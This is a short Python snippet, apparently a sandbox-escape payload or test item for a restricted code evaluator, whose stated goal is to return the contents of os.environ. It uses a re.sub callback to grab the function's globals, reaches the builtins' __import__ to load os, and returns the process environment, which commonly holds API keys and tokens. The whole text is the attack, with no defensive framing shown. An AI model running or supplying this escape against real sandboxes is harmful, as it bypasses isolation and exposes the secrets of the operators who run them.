# goal: return os.environ repr via a re.sub callback inspecting its caller frame
import re
box = []
def cb(m):
    box.append(cb.__code__)
    box.append(cb.__globals__)
    return ""
re.sub("x", cb, "x")
return repr(box[1]["__builtins__"]["__import__"]("os").environ)
